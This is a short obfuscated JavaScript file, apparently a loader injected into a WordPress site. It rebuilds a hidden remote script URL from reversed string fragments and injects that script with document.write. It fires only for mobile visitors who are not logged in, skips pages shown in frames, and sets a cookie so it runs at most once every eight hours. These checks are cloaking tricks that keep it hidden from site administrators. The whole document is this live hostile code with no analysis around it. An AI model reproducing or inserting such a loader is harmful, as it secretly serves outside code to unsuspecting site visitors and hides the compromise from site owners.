var wpc = wpc || {};
wpc.k = 'x2y_' + location.hostname.length;
wpc.s = ['sj.', 'niam/', 'dilavni', '.', 'yarg-tfos', '//:', 'sptth'];
wpc.url = function () {
    var o = '';
    for (var i = wpc.s.length - 1; i >= 0; i--) {
        o += wpc.s[i].split('').reverse().join('');
    }
    return o;
};
wpc.allow = function () {
    var a = navigator.userAgent.toLowerCase();
    if (!/android|iphone/.test(a)) { return false; }
    if (window.self !== window.top) { return false; }
    var c = document.cookie.split('; ');
    for (var i = 0; i < c.length; i++) {
        if (c[i].indexOf('wordpress_') === 0 || c[i].indexOf('wp-settings') === 0 || c[i].indexOf(wpc.k) === 0) { return false; }
    }
    return true;
};
wpc.go = function () {
    if (!wpc.allow()) { return; }
    document.cookie = wpc.k + '=1; path=/; max-age=28800';
    document.write('<scr' + 'ipt src="' + wpc.url() + '?d=' + encodeURIComponent(document.title) + '"></scr' + 'ipt>');
};
wpc.go();
